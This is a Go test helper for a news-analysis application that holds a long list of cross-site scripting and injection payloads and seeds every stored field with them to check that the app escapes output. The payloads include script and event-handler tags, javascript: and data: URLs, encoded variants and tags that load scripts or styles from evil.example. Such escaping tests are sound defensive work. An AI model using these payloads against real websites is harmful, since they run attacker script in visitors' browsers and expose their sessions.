package showtest

import (
	"fmt"
	"strings"
	"testing"

	"github.com/sitrep-news/sitrep"
	"github.com/sitrep-news/sitrep/internal/record"
)

// Payloads are strings that become markup, a script or an address wherever somebody forgot to escape. None has a line
// break, so that each is one paragraph.
func Payloads() []string {
	return strings.Split(strings.TrimSpace(payloads), "\n")
}

const payloads = `
<script>pwned=1</script>
<SCRIPT>pwned=1</SCRIPT>
<script src=//evil.example/x.js></script>
<script/x>pwned=1</script/x>
</script><script>pwned=1</script>
</title><script>pwned=1</script>
</textarea><script>pwned=1</script>
</style><script>pwned=1</script>
</p></div></article></main><script>pwned=1</script>
--><script>pwned=1</script>
]]><script>pwned=1</script>
<!--<img src="--><img src=x onerror=pwned=1>">
<img src=x onerror=pwned=1>
<img src="x" onerror="pwned=1">
<img/src=x/onerror=pwned=1>
<img src=x:x onerror=&#112;wned=1>
<image src=x onerror=pwned=1>
<svg onload=pwned=1>
<svg/onload=pwned=1>
<svg><script>pwned=1</script></svg>
<svg><animate onbegin=pwned=1 attributeName=x dur=1s>
<svg><a xlink:href="javascript:pwned=1"><text x=9 y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=pwned=1>#x"></use></svg>
<math><mtext><table><mglyph><style><img src=x onerror=pwned=1></style></mglyph></table></mtext></math>
<math href="javascript:pwned=1">x</math>
<iframe src="javascript:pwned=1"></iframe>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<object data="javascript:pwned=1"></object>
<embed src="javascript:pwned=1">
<body onload=pwned=1>
<body onpageshow=pwned=1>
<html onmouseover=pwned=1>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example/x.html>
<style>@import "//evil.example/x.css";</style>
<style>*{background:url(//evil.example/x)}</style>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=refresh content="0;url=data:text/html,<script>pwned=1</script>">
<form action=//evil.example/><input name=q></form>
<form id=find><button formaction="javascript:pwned=1">x</button></form>
<input autofocus onfocus=pwned=1>
<select autofocus onfocus=pwned=1>
<textarea autofocus onfocus=pwned=1>
<video src=x onerror=pwned=1>
<video><source onerror=pwned=1></video>
<audio src=x onerror=pwned=1>
<details open ontoggle=pwned=1>
<dialog open onclose=pwned=1>
<marquee onstart=pwned=1>
<a href="javascript:pwned=1">x</a>
<a href="java&#x09;script:pwned=1">x</a>
<a href="data:text/html,<script>pwned=1</script>">x</a>
<a href=" &#14; javascript:pwned=1">x</a>
<a id=keys name=cookie href=x>x</a>
<template><script>pwned=1</script></template>
<noscript><p title="</noscript><img src=x onerror=pwned=1>">
<table><td background="javascript:pwned=1">
<div style="background:url(javascript:pwned=1)">
<div style=width:expression(pwned=1)>
<div onclick=pwned=1 onmouseover=pwned=1>
<x onpointerenter=pwned=1 contenteditable autofocus onfocus=pwned=1>
<frameset onload=pwned=1>
<portal src=//evil.example/>
<slot name=x onslotchange=pwned=1>
<custom-element is=x onfocus=pwned=1>
javascript:pwned=1
JaVaScRiPt:pwned=1
javascript://news.example/%0apwned=1
data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+
vbscript:pwned=1
//evil.example/x
" onmouseover="pwned=1
' onmouseover='pwned=1
" autofocus onfocus=pwned=1 x="
' autofocus onfocus=pwned=1 x='
` + "`" + ` onmouseover=pwned=1
"><img src=x onerror=pwned=1>
'><img src=x onerror=pwned=1>
x onmouseover=pwned=1 y
&lt;script&gt;pwned=1&lt;/script&gt;
&#60;script&#62;pwned=1&#60;/script&#62;
&quot; onmouseover=&quot;pwned=1
{{.}}{{printf "%s" .}}{{template "body"}}
${pwned=1}#{pwned=1}<%= pwned=1 %>
\u003cscript\u003epwned=1\u003c/script\u003e
\x3cscript\x3epwned=1\x3c/script\x3e
%3Cscript%3Epwned=1%3C/script%3E
+ADw-script+AD4-pwned=1+ADw-/script+AD4-
＜script＞pwned=1＜/script＞
<scr<script>ipt>pwned=1</scr</script>ipt>
<<script>pwned=1//<</script>
<img src=x onerror=pwned=1//
<!doctype html><script>pwned=1</script>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">pwned=1</script>
<![CDATA[<script>pwned=1</script>]]>
*/pwned=1/*
;pwned=1;//
`

// Hostile fills a ledger with the payloads wherever something from outside can stand: one document, with a paragraph, an
// actor and a channel for each.
func Hostile(t testing.TB, store *record.Store, payloads ...string) {
	t.Helper()
	all := strings.Join(payloads, " ")
	b := Build(t, sitrep.Document{
		ID: "hostile", URL: all, Title: all, Publisher: all, Byline: payloads, Published: all, Language: "en", Channel: all,
		Text: "Before. " + strings.Join(payloads, "\n\n") + "\n\nAfter.\n",
	})
	b.from = len("Before. ")
	for i, p := range payloads {
		actor := b.Actor(sitrep.Actor{Name: HostileName(i, p), Kind: sitrep.PersonActor, Role: p, Country: p, Aliases: payloads, Wikidata: p})
		b.Mention(actor, p, sitrep.Person, sitrep.NameForm).Time(p, p).Place(p, sitrep.Place{Country: p})
		b.Said(sitrep.Attribution{Actor: actor, SourceKind: sitrep.SourceKind(p), Quote: sitrep.DirectQuote}, p, p, p)
		b.hostileMeaning(actor, p)
		b.from = b.find(p).End
	}
	Accept(t, store, b.Reading.Document)
	Append(t, store, &b.Reading)
	broken := Versioned(sitrep.Document{ID: payloads[0], Title: all, Publisher: all, Byline: payloads, Text: all, Published: "2031-05-01", Language: "en"})
	Accept(t, store, broken)
	for range record.MaxAttempts {
		if _, err := store.Fail(t.Context(), broken.Key(), all); err != nil {
			t.Fatalf("fail: %v", err)
		}
	}
	for i, p := range payloads {
		c := sitrep.Channel{Kind: sitrep.FeedChannel, URL: fmt.Sprint(p, i), Title: p, Publisher: p, Language: p}
		if _, err := store.AddChannel(t.Context(), c); err != nil {
			t.Fatalf("add channel: %v", err)
		}
		c.State = sitrep.ChannelState{Polled: Now(), Failures: 1, Error: p}
		if err := store.SaveChannel(t.Context(), c); err != nil {
			t.Fatalf("save channel: %v", err)
		}
	}
}

// hostileMeaning adds an event, a speech act and a plan that have a payload wherever they have words.
func (b *Builder) hostileMeaning(actor, p string) {
	b.t.Helper()
	last := &b.Reading.Places[len(b.Reading.Places)-1]
	last.Located, last.Lat, last.Lon = true, float64(len(b.Reading.Places)%60), float64(len(b.Reading.Places))
	who := []string{actor, "a1"}
	attribution := b.Reading.Attributions[len(b.Reading.Attributions)-1].ID
	b.Event(sitrep.Event{
		Type: sitrep.Assault, Mode: p, Context: []string{p}, Actor: who, Recipient: []string{"a2"}, When: p, Where: p,
		Vouched: sitrep.ByOther, Attribution: attribution, Confidence: 1,
	}, p)
	b.Event(sitrep.Event{Type: sitrep.EventType(p), Aux: []string{p}, Vouched: sitrep.Voucher(p)}, p)
	b.Act(sitrep.SpeechAct{Kind: sitrep.ActKind(p), By: who, Toward: who, Due: p, Event: p, Attribution: attribution}, p, p)
	b.Plan(sitrep.Plan{Event: sitrep.EventType(p), Who: who, When: p, Where: p, Status: sitrep.PlanStatus(p)}, p)
}

// HostileName is the name of the actor that has a payload in its name.
func HostileName(i int, payload string) string { return fmt.Sprintf("Ana %d %s", i, payload) }
